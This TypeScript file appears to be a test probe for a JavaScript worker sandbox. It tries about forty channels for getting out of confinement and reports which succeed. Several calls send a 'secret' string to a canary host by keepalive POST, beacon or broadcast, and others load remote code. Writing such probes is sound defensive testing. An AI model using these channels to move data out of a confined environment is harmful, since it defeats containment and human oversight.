/**
 * Native code in the place of a cell's program, as somebody has it who broke out of the machine and of everything around
 * it: tries every way out that a worker might have, and says which ones led anywhere.
 */
declare const CONFINED: boolean;
declare const CANARY: string;

type Scope = Record<string, unknown>;
// Taken by name at run time: most of it is gone where the scope is confined, and half of it is in no type library.
const scope = globalThis as unknown as Scope;
// biome-ignore lint/suspicious/noExplicitAny: what attackers call has no types
const the = (name: string): any => {
  const value = scope[name];
  if (value === undefined) throw new Error(`${name} is gone`);
  return value;
};
const made = (name: string, ...values: unknown[]) => new (the(name))(...values);
const url = (name: string) => `${CANARY}/${name}`;
const blob = (text: string): string =>
  the("URL").createObjectURL(made("Blob", [text], { type: "text/javascript" }));

/** Whether something comes of it: false where it fails or nothing happens in a while. */
const heard = (target: EventTarget, good: string, bad = "error"): Promise<boolean> =>
  new Promise((resolve) => {
    target.addEventListener(good, () => resolve(true));
    target.addEventListener(bad, () => resolve(false));
    setTimeout(() => resolve(false), 1500);
  });
const opened = (request: IDBRequest) =>
  new Promise<boolean>((resolve) => {
    request.onsuccess = () => resolve(true);
    request.onerror = () => resolve(false);
  });
/** It did not throw. */
const done = (_: unknown) => true;
const load = (address: string) => import(/* @vite-ignore */ address).then(() => true);
const sent = (options: object) => the("fetch")(url("fetch"), options).then(() => true);
const nested = (text: string) => heard(made("Worker", blob(text)), "message");

const WAYS: Record<string, () => unknown> = {
  fetch: () => sent({}),
  "fetch without CORS": () => sent({ mode: "no-cors" }),
  "fetch that outlives": () => sent({ keepalive: true, method: "POST", body: "secret" }),
  "fetch of the page's origin": () => the("fetch")(`${CANARY.replace(/:\d+$/, "")}/healthz`).then(() => true),
  "fetch of data": () => the("fetch")("data:text/plain,x").then(() => true),
  XMLHttpRequest: () => {
    const request = made("XMLHttpRequest");
    request.open("GET", url("xhr"));
    request.send();
    return heard(request, "load");
  },
  "XMLHttpRequest that blocks": () => {
    const request = made("XMLHttpRequest");
    request.open("GET", url("xhr-sync"), false);
    request.send();
    return true;
  },
  WebSocket: () => heard(made("WebSocket", url("ws").replace("http", "ws")), "open"),
  WebSocketStream: () => made("WebSocketStream", url("wss").replace("http", "ws")).opened.then(() => true),
  WebTransport: () => made("WebTransport", url("wt").replace("http:", "https:")).ready.then(() => true),
  EventSource: () => heard(made("EventSource", url("events")), "open"),
  "import of a file": () => load(url("module.js")),
  "import of data": () => load("data:text/javascript,1"),
  "import of a blob": () => load(blob("1")),
  "importScripts of a file": () => done(the("importScripts")(url("script.js"))),
  "importScripts of data": () => done(the("importScripts")("data:text/javascript,1")),
  "importScripts of a blob": () => done(the("importScripts")(blob("1"))),
  "worker of a file": () => heard(made("Worker", url("worker.js")), "message"),
  "worker of data": () => heard(made("Worker", "data:text/javascript,postMessage(1)"), "message"),
  "worker of a blob, that fetches": () => nested(`fetch("${url("nested")}").then(() => postMessage(1))`),
  "worker of a blob, that imports": () => nested(`importScripts("${url("nested.js")}"); postMessage(1)`),
  "worker of a blob, that stores": () => nested(`indexedDB.open("x").onsuccess = () => postMessage(1)`),
  SharedWorker: () => heard(made("SharedWorker", url("shared.js")), "message"),
  IndexedDB: () => opened(the("indexedDB").open("x")),
  caches: () =>
    the("caches")
      .open("x")
      .then(() => true),
  "private files": () =>
    the("navigator")
      .storage.getDirectory()
      .then(() => true),
  "old files": () => done(the("webkitRequestFileSystemSync")(0, 1024)),
  BroadcastChannel: () => {
    const channel = made("BroadcastChannel", "aegis-probe");
    channel.postMessage("secret");
    return heard(channel, "message", "messageerror");
  },
  locks: () => the("navigator").locks.request("audit:upload", () => true),
  "service worker": () =>
    the("navigator")
      .serviceWorker.register(url("sw.js"))
      .then(() => true),
  beacon: () => the("navigator").sendBeacon(url("beacon"), "secret"),
  cookies: () =>
    the("cookieStore")
      .set("a", "b")
      .then(() => true),
  notification: () => made("Notification", "secret") && the("Notification").permission === "granted",
  font: () =>
    made("FontFace", "x", `url(${url("font")})`)
      .load()
      .then(() => true),
  eval: () => the("eval")("true"),
  Function: () => Function("return true")(),
  "a function's constructor": () => (async () => {}).constructor("return true")(),
  "text in a timer": () =>
    new Promise((resolve) => {
      scope.reached = () => resolve(true);
      (setTimeout as (text: string) => void)("reached()");
      setTimeout(() => resolve(false), 300);
    }),
  "WebAssembly from the network": () =>
    WebAssembly.compileStreaming(the("fetch")(url("wasm"))).then(() => true),
};

async function tryAll(port: MessagePort): Promise<void> {
  const through: string[] = [];
  for (const [name, way] of Object.entries(WAYS)) {
    try {
      if (await way()) through.push(name);
    } catch {
      // As it should be.
    }
  }
  // What is left of the platform, for the test to look at.
  port.postMessage({ through, tried: Object.keys(WAYS).length, globals: leftovers() });
}

function leftovers(): string[] {
  const names = new Set<string>();
  for (let at: object | null = globalThis; at && at !== Object.prototype; at = Object.getPrototypeOf(at))
    for (const name of Object.getOwnPropertyNames(at)) names.add(name);
  return [...names];
}

if (CONFINED) void import("@/lib/runtime/embedded/cell/worker/confine").then(({ port }) => port.then(tryAll));
else addEventListener("message", ({ ports }) => void tryAll(ports[0] as MessagePort), { once: true });
